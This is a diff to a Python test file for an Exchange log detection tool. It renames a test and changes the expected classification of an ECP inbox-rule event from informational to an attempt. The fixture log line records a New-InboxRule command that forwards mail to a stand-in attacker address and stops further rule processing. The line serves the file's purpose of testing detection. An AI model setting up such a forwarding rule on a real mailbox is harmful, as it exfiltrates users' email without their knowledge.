@@ -241,8 +241,9 @@ def test_proxytoken_sigma() -> None:
     assert classify("httpproxy", row, HP_NAMES) == [("PT-33766-INBOXRULE", "token-500", Outcome.SUCCESS)]
 
 
-def test_ecp_forwarding_rule_is_info() -> None:
+def test_ecp_forwarding_rule_is_found() -> None:
+    """Outcome and wording are settled after the scan (detections/forwarding.py); the rule finds it."""
     line = ("2021-09-01T10:00:00.000Z,EXCH01,ECP.Request,S:TIME=10;S:SID=S-1-5-21-1;S:CMD=New-InboxRule.Name=x"
             ".ForwardTo=attacker@evil.com.StopProcessingRules=True;S:URL=/ecp/RulesEditor/InboxRules.svc/NewObject")
     got = classify("ecp", line, ["TimeStamp", "ServerName", "EventId", "EventData"])
-    assert got == [("PT-ECP-FORWARD-RULE", "default", Outcome.INFO)]
+    assert got == [("MAIL-FWD-ECP", "inbox-rule", Outcome.ATTEMPT)]
